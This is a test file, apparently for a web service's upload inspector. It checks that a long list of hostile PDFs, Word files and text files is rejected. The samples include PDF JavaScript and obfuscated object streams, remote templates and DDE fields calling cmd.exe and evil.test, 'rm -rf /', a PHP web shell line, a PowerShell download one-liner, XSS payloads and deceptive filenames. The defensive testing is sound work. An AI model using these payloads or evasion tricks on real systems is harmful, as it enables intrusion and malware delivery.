import { readdir } from 'node:fs/promises'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import { routes } from '@krash/contract'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  makeDoc,
  makeDocx,
  makePdf,
  makeZip,
  packedObjects,
  relations,
  wordStream,
  wordText,
} from '#platform/file-inspection/documents.factory.ts'
import { type TestApp, startTestApp } from '#testing/test-app.ts'
import type { TestClient } from '#testing/test-client.ts'
import { cameraPhoto, upload } from './files.factory.ts'

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const types: Record<string, string> = {
  pdf: 'application/pdf',
  doc: 'application/msword',
  docx: docxType,
  txt: 'text/plain',
  jpg: 'image/jpeg',
}

/** Description, name and bytes; the type follows from the name unless given. */
type Hostile = [what: string, name: string, bytes: Buffer, type?: string]

let api: TestApp
let driver: TestClient
beforeAll(async () => {
  api = await startTestApp()
  driver = await api.signUp()
})
afterAll(() => api.close())

const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
const exe = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(76),
  Buffer.from('This program cannot be run in DOS mode.'),
])
const script = '<script>alert(1)</script>'
const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

async function pdfs(): Promise<Hostile[]> {
  const pdf = makePdf()
  const zip = await makeZip({ 'a.txt': 'x' })
  const text = pdf.toString('latin1')
  const packed = (inner: string, filter?: string) => makePdf({ objects: [packedObjects(inner, filter)] })
  const all: [string, Buffer][] = [
    ['script on opening', makePdf({ catalog: `/OpenAction ${action}` })],
    ['script by reference', makePdf({ catalog: '/OpenAction 5 0 R', objects: [action] })],
    ['script among the names', makePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` })],
    ['script with a name in hex', makePdf({ objects: ['<< /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>'] })],
    ['script in packed objects', packed(`9 0 ${action}`)],
    ['script in objects in an object stream that is not packed', packed(`9 0 ${action}`, '')],
    ['objects packed in another way', packed(`9 0 ${action}`, '/Filter /ASCIIHexDecode')],
    [
      'script in an object inside a stream',
      makePdf({ content: Buffer.from(`9 0 obj\n${action}\nendobj\n`) }),
    ],
    [
      'script in an object inside a string',
      makePdf({ objects: [`(9 0 obj << /S /J#61vaScript >> endobj)`] }),
    ],
    [
      'script in an object inside a comment',
      makePdf({ objects: [`<< >> % 9 0 obj << /S /J#61vaScript >>`] }),
    ],
    ['starts a program', makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
    [
      'holds another file',
      makePdf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'] }),
    ],
    ['holds a film', makePdf({ objects: ['<< /Subtype /RichMedia >>'] })],
    ['a form of XML', makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })],
    ['a form that sends itself', makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.test) >>'] })],
    ['opens an address', makePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.test) >>' })],
    ['encrypted', makePdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] })],
    ['packed objects that unpack to 40 MB', packedBomb()],
    ['then a zip', Buffer.concat([pdf, zip])],
    ['then html', Buffer.concat([pdf, Buffer.from(`<html>${script}`)])],
    ['then a program', Buffer.concat([pdf, exe])],
    ['html before it', Buffer.concat([Buffer.from(`<html>${script}`), pdf])],
    ['a zip before it', Buffer.concat([zip, pdf])],
    ['html in its head', Buffer.from(text.replace('\n', `\n% <html>${script}\n`), 'latin1')],
    ['html in its content', makePdf({ content: Buffer.from(`<html>${script}</html>`) })],
    ['the test virus in its content', makePdf({ content: Buffer.from(eicar) })],
    ['two of them', Buffer.concat([pdf, pdf])],
    ['cut in half', pdf.subarray(0, pdf.length / 2)],
    ['without its end', Buffer.from(text.replace('%%EOF\n', ''), 'latin1')],
    ['without its table', Buffer.from(text.replace(/startxref\n\d+/, 'startxref\n5'), 'latin1')],
    ['without pages', Buffer.from(text.replace('/Kids', '/Nope'), 'latin1')],
    ['a head only', Buffer.from('%PDF-1.7\n')],
    ['a head and html', Buffer.from(`%PDF-1.7\n<html>${script}</html>\n%%EOF`)],
  ]
  return all.map(([what, bytes]) => [`pdf: ${what}`, 'a.pdf', bytes])
}

/** Scripts that a reader (tried with pdf.js) finds and runs, though the bytes do not show them at once. */
function pdfsInDisguise(): Hostile[] {
  const script = String.raw`<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>`
  const packed = (dictionary: string, body = deflateSync(`9 0 ${script}`)) =>
    makePdf({
      catalog: '/OpenAction 9 0 R',
      objects: [objectStream(dictionary, body), '[/FlateDecode /AHx]'],
    })
  const hidden = (text: string) => makePdf({ catalog: '/OpenAction 9 0 R', content: Buffer.from(text) })
  const hex = Buffer.from(`${Buffer.from(`9 0 ${script}`).toString('hex')}>`)
  const cut = Buffer.from(`9 0 << /A (endstream endobj %) ${script.slice(2)}`)
  const once = '/Filter /FlateDecode'
  const all: [string, Buffer][] = [
    ['behind a word among the brackets', packed(`${once} /X xobj`)],
    ['behind a word in a list', packed(`${once} /X [ >> endobj ]`)],
    ['packed, then written in hex', packed('/Filter [/FlateDecode /AHx]', deflateSync(hex))],
    ['packed twice', packed('/Filter [/Fl /Fl]', deflateSync(deflateSync(`9 0 ${script}`)))],
    ['packed in a way told elsewhere', packed('/Filter 6 0 R /Y /FlateDecode', deflateSync(hex))],
    ['packed with parameters told elsewhere', packed(`${once} /DecodeParms 6 0 R`)],
    ['behind an end in the middle', packed('', cut)],
    ['behind an end in what is packed', packed(once, deflateSync(cut, { level: 0 }))],
    ['in a string in which an object begins', packed(once, deflateSync(`9 1 (${script} )`))],
    [
      'between two words that are values',
      makePdf({ catalog: `/X stream /OpenAction ${script} /Y endstream` }),
    ],
    ['in an object behind a comment', hidden(`BT ET\n9 0%a\nobj${script}`)],
    ['in an object without a blank', hidden(`BT ET\n9 0obj${script}`)],
    ['in an object behind many blanks', hidden(`BT ET\n9 0${' '.repeat(40)}obj${script}`)],
    ['in an object before many blanks', hidden(`BT ET\n9 0.0obj${' '.repeat(40)}${script}`)],
    [
      'an address on opening, packed',
      packed(once, deflateSync('9 0 << /S /URI /URI (https://evil.test) >>')),
    ],
    ['another file on opening', makePdf({ catalog: '/OpenAction << /S /GoToR /F (//evil.test/a) >>' })],
    ['an address on closing', makePdf({ catalog: '/AA << /WC << /S /URI /URI (https://evil.test) >> >>' })],
  ]
  const versions = '7 0 obj '.repeat(250_000)
  all.push(['behind 250,000 versions', makePdf({ catalog: '/OpenAction 7 0 R', objects: [versions] })])
  return all.map(([what, bytes]) => [`pdf: script ${what}`, 'a.pdf', bytes])
}

function objectStream(more: string, body: Buffer): Buffer {
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Length ${body.length} ${more} >>\nstream\n`
  return Buffer.concat([Buffer.from(dictionary), body, Buffer.from('\nendstream')])
}

function packedBomb(): Buffer {
  const bomb = deflateSync(Buffer.alloc(40_000_000))
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`
  return makePdf({ objects: [Buffer.concat([Buffer.from(dictionary), bomb, Buffer.from('\nendstream')])] })
}

async function docxs(): Promise<Hostile[]> {
  const docx = await makeDocx()
  const external = (type: string, target = 'https://evil.test/a.dotm') =>
    relations(
      `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
    )
  const withField = (code: string) => wordText(`<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`)
  const renamed = (to: string) => Buffer.from(docx.toString('latin1').replaceAll('_rels/.rels', to), 'latin1')
  const all: [string, Buffer][] = [
    ['macros', await makeDocx({ 'word/vbaProject.bin': Buffer.alloc(100) })],
    ['macros by its type', await makeDocx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    ['a control', await makeDocx({ 'word/activeX/activeX1.bin': 'x' })],
    ['another document', await makeDocx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a program', await makeDocx({ 'word/media/a.exe': exe })],
    ['a program named as a picture', await makeDocx({ 'word/media/a.png': exe })],
    ['a page', await makeDocx({ 'a.html': script })],
    [
      'a template from elsewhere',
      await makeDocx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }),
    ],
    ['an object from elsewhere', await makeDocx({ 'word/_rels/document.xml.rels': external('oleObject') })],
    ['a picture from elsewhere', await makeDocx({ 'word/_rels/document.xml.rels': external('image') })],
    [
      'a link to a script',
      await makeDocx({ 'word/_rels/document.xml.rels': external('hyperlink', 'javascript:x') }),
    ],
    [
      'a link to a program',
      await makeDocx({ 'word/_rels/document.xml.rels': external('hyperlink', 'file:///c:/a.exe') }),
    ],
    [
      'a field that starts a program',
      await makeDocx({ 'word/document.xml': withField(' DDEAUTO c:\\\\cmd.exe') }),
    ],
    ['entities', await makeDocx({ 'word/document.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${wordText('')}` })],
    [
      'text of two bytes a sign',
      await makeDocx({ 'word/document.xml': Buffer.from(wordText(''), 'utf16le') }),
    ],
    ['a part of 110 MB', await makeDocx({ 'word/big.xml': Buffer.alloc(110_000_000, 0x20) })],
    [
      '3,000 parts',
      await makeDocx(Object.fromEntries(Array.from({ length: 3000 }, (_, at) => [`word/${at}.xml`, 'x']))),
    ],
    ['a path that leads upwards', renamed('../../a.xml')],
    ['an absolute path', renamed('/etc/a.rels')],
    ['a path of Windows', renamed('C:\\a\\b.xml')],
    ['one part twice', renamed('word/document.xml'.slice(0, 11))],
    ['without its text', await makeDocx({ 'word/document.xml': undefined })],
    ['without its list of types', await makeDocx({ '[Content_Types].xml': undefined })],
    ['another archive', await makeZip({ 'a.txt': 'x' })],
    ['then html', Buffer.concat([docx, Buffer.from(script)])],
    ['cut in half', docx.subarray(0, docx.length / 2)],
    ['a changed bit', changed(docx)],
    ['the test virus in it', await makeDocx({ 'word/media/a.png': eicar })],
  ]
  return all.map(([what, bytes]) => [`docx: ${what}`, 'a.docx', bytes])
}

/** Things that Word opens or runs although they are written differently from Word's own output. */
async function docxsInDisguise(): Promise<Hostile[]> {
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const away = `Type="${office}/attachedTemplate" Target="https://evil.test/a.dotm"`
  const related = (inner: string) => ({ 'word/_rels/settings.xml.rels': relations(inner) })
  const linked = (target: string) =>
    related(`<Relationship Id="r" Type="${office}/hyperlink" Target="${target}" TargetMode="External"/>`)
  const field = (inner: string) => ({ 'word/document.xml': wordText(`<w:p><w:r>${inner}</w:r></w:p>`) })
  const compound = Buffer.from('d0cf11e0a1b11ae1', 'hex')
  const all: [string, Record<string, string | Buffer>][] = [
    [
      'a template, its mode with a number',
      related(`<Relationship Id="r" ${away} TargetMode="&#69;xternal"/>`),
    ],
    ['a template behind a bracket', related(`<Relationship Id="a>b" ${away} TargetMode="External"/>`)],
    ['a template with a prefix', related(`<a-b:Relationship Id="r" ${away} TargetMode="External"/>`)],
    [
      'a template that says it is a link',
      related(`<Relationship a:Type="/hyperlink" ${away} TargetMode="External"/>`),
    ],
    ['a link to a program, with a number', linked('&#102;ile:///c:/a.exe')],
    ['a link to a share', linked(String.raw`\\evil.test\a`)],
    [
      'text of another kind to take in',
      {
        ...related(`<Relationship Id="r" Type="${office}/aFChunk" Target="/word/a.xml"/>`),
        'word/a.xml': '<a/>',
      },
    ],
    ['rich text named xml', { 'word/a.xml': String.raw`{\rtf1 {\object\objdata 01}}` }],
    ['an object named xml', { 'word/a.xml': compound }],
    ['an object named png', { 'word/media/a.png': compound }],
    ['a field, its letter a number', field('<w:instrText>&#68;DEAUTO c:\\cmd.exe</w:instrText>')],
    ['a field with another prefix', field('<x:instrText>DDEAUTO c:\\cmd.exe</x:instrText>')],
    ['a field as it is', field('<w:instrText><![CDATA[DDE "c:\\cmd.exe"]]></w:instrText>')],
    [
      'a field in two parts',
      field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText>'),
    ],
    ['a simple field', field(`<w:fldSimple w:instr='"DDE c:\\cmd.exe'/>`)],
    ['another code', { 'word/settings.xml': '<?xml version="1.0" encoding="IBM037"?><a/>' }],
  ]
  return Promise.all(
    all.map(async ([what, parts]): Promise<Hostile> => [`docx: ${what}`, 'a.docx', await makeDocx(parts)]),
  )
}

/** Flips one bit in the compressed text of the document. */
function changed(docx: Buffer): Buffer {
  const bytes = Buffer.from(docx)
  const at = bytes.indexOf('word/document.xml') + 40
  bytes[at] = (bytes[at] ?? 0) ^ 4
  return bytes
}

async function docs(): Promise<Hostile[]> {
  const doc = makeDoc()
  const all: [string, Buffer][] = [
    [
      'macros',
      makeDoc([
        {
          name: 'Macros',
          below: [{ name: 'VBA', below: [{ name: 'ThisDocument', bytes: Buffer.alloc(10) }] }],
        },
      ]),
    ],
    [
      'macros, hidden deeper',
      makeDoc([{ name: 'A', below: [{ name: '_VBA_PROJECT', bytes: Buffer.alloc(10) }] }]),
    ],
    [
      'another file',
      makeDoc([
        { name: 'ObjectPool', below: [{ name: '_1', below: [{ name: '\u0001Ole10Native', bytes: exe }] }] },
      ]),
    ],
    ['an equation that is a program', makeDoc([{ name: 'Equation Native', bytes: Buffer.alloc(10) }])],
    ['a program in its data', makeDoc([{ name: 'Data', bytes: exe }])],
    ['a field that starts a program', makeDoc([], wordStream({ fill: 'DDEAUTO c:\\cmd.exe ' }))],
    ['encrypted', makeDoc([], wordStream({ flags: 0x0100 }))],
    [
      'a table of numbers',
      Buffer.from(doc.toString('latin1').replaceAll('W\0o\0r\0d\0D\0', 'B\0o\0o\0k\0D\0'), 'latin1'),
    ],
    ['not a text inside', makeDoc([], Buffer.alloc(8192, 7))],
    ['then a zip', Buffer.concat([doc, await makeZip({ 'a.txt': 'x' })])],
    ['then html', Buffer.concat([doc, Buffer.alloc(2000, script)])],
    ['cut in half', doc.subarray(0, doc.length / 2)],
    ['a head only', doc.subarray(0, 512)],
    ['a chain that is a circle', circle(doc)],
  ]
  return all.map(([what, bytes]) => [`doc: ${what}`, 'a.doc', bytes])
}

/** The second sector in the directory's chain is its first. */
function circle(doc: Buffer): Buffer {
  const bytes = Buffer.from(doc)
  const directory = bytes.readUInt32LE(48)
  bytes.writeUInt32LE(directory, 512 + directory * 4)
  return bytes
}

function texts(): Hostile[] {
  const all: [string, string | Buffer][] = [
    ['html', '<!doctype html><html><body>x'],
    ['html after blanks', `\n\n  <HTML>${script}`],
    ['html further on', `Dear Sir,\n${script}`],
    ['svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
    ['xml', '<?xml version="1.0"?><a/>'],
    ['a script', '#!/bin/sh\nrm -rf /\n'],
    ['php', 'hello <?php system($_GET[0]); ?>'],
    ['a batch file', '@echo off\r\ndel *.*'],
    ['a shortcut', '[InternetShortcut]\nURL=file://evil.test/a.exe'],
    ['rtf', String.raw`{\rtf1\ansi {\object\objdata 0105}}`],
    ['an element that acts', 'Dear Sir,\n<svg onload=alert(1)>'],
    ['another of them', 'Dear Sir,\n<img/src="x"/onerror=alert(1)>'],
    ['settings of Windows', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]'],
    ['a script of PowerShell', '<#\nhelp\n#>\nGet-Item x'],
    ['what a script downloads', 'Hello\r\n$a = (New-Object Net.WebClient).DownloadString("http://x.test")'],
    ['a line that runs one', 'Please type: powershell -enc SQBFAFgA'],
    ['a script of Windows', 'Set x = CreateObject("WScript.Shell")'],
    ['the test virus', eicar],
    ['zeros', Buffer.from('a\0b')],
    ['an escape sequence of a terminal', '\u001b]0;x\u0007'],
    ['two bytes a sign', Buffer.from('\ufeffhello', 'utf16le')],
    ['no UTF-8', Buffer.from([0x68, 0xe9, 0x20])],
    ['a program', exe],
    ['nothing', ''],
  ]
  return all.map(([what, text]) => [`txt: ${what}`, 'a.txt', Buffer.from(text as string)])
}

async function disguised(): Promise<Hostile[]> {
  const [pdf, docx, doc, jpeg] = [makePdf(), await makeDocx(), makeDoc(), await cameraPhoto()]
  const text = Buffer.from('hello')
  return [
    ['pdf named exe', 'a.pdf.exe', pdf, types['pdf']],
    ['pdf with a program in its name', 'invoice.exe.pdf', pdf],
    ['pdf with a name written backwards', 'invoice\u202efdp.exe', pdf, types['pdf']],
    ['pdf with a zero in its name', 'a.pdf\0.html', pdf, types['pdf']],
    ['pdf declared as html', 'a.pdf', pdf, 'text/html'],
    ['pdf declared as nothing', 'a.pdf', pdf, 'application/octet-stream'],
    ['pdf declared as a photo', 'a.jpg', pdf],
    ['pdf named doc', 'a.doc', pdf, types['pdf']],
    ['photo declared as pdf', 'a.pdf', jpeg],
    ['photo as text', 'a.txt', jpeg],
    ['docx as doc', 'a.doc', docx],
    ['docx named docm', 'a.docm', docx, docxType],
    ['doc as docx', 'a.docx', doc],
    ['doc as text', 'a.txt', doc],
    ['text as pdf', 'a.pdf', text],
    ['text named html', 'a.html', text, 'text/plain'],
    ['text named bat', 'a.txt.bat', text, 'text/plain'],
    ['text as csv', 'a.csv', text, 'text/csv'],
    ['rtf as doc', 'a.doc', Buffer.from(String.raw`{\rtf1 x}`)],
    ['html with a path', '../../../../var/www/a.html', Buffer.from(script), 'text/html'],
  ]
}

test('no hostile document is accepted, each is told why, nothing stays behind', async () => {
  const all = [
    ...(await pdfs()),
    ...pdfsInDisguise(),
    ...(await docxs()),
    ...(await docxsInDisguise()),
    ...(await docs()),
    ...texts(),
    ...(await disguised()),
  ]
  const accepted: string[] = []
  const told = new Map<string, number>()
  for (const [what, name, bytes, given] of all) {
    const type = given ?? types[name.split('.').at(-1) ?? ''] ?? ''
    const answer = await upload(driver, { bytes, name, type, fields: { sectionType: 'personal' } })
    if (answer.status < 400) accepted.push(what)
    told.set(answer.code ?? '', (told.get(answer.code ?? '') ?? 0) + 1)
  }
  console.log(
    `hostile documents: ${all.length} kinds, accepted ${accepted.length}; ${JSON.stringify([...told])}`,
  )
  expect(accepted).toEqual([])
  expect([...told.keys()].toSorted()).toEqual([
    'DOCUMENT_BROKEN',
    'DOCUMENT_NOT_ALLOWED',
    'FILE_TYPE_NOT_SUPPORTED',
  ])
  expect((await driver.call(routes.listFiles)).data.data).toEqual([])
  const folder = path.join(api.context.config.dataDir, 'files')
  const left = await readdir(folder, { recursive: true, withFileTypes: true })
  expect(left.filter((entry) => entry.isFile())).toEqual([])
})

test('a document that is not hostile is taken under each of these names', async () => {
  const good: [string, Buffer][] = [
    ['Policy 2026 (final).pdf', makePdf()],
    ['../../etc/Vertrag.docx', await makeDocx()],
    ['رسالة.doc', makeDoc()],
    ['notes v1.2 2026.txt', Buffer.from('1 < 2 and a<b; see script.js; an <old> "pc" on = svg onload')],
  ]
  for (const [name, bytes] of good) {
    const type = types[name.split('.').at(-1) ?? ''] ?? ''
    const answer = await upload(driver, { bytes, name, type, fields: { sectionType: 'personal' } })
    expect([name, answer.code, answer.status]).toEqual([name, undefined, 201])
    expect(answer.data.originalFilename).toBe(name.split('/').at(-1))
  }
})
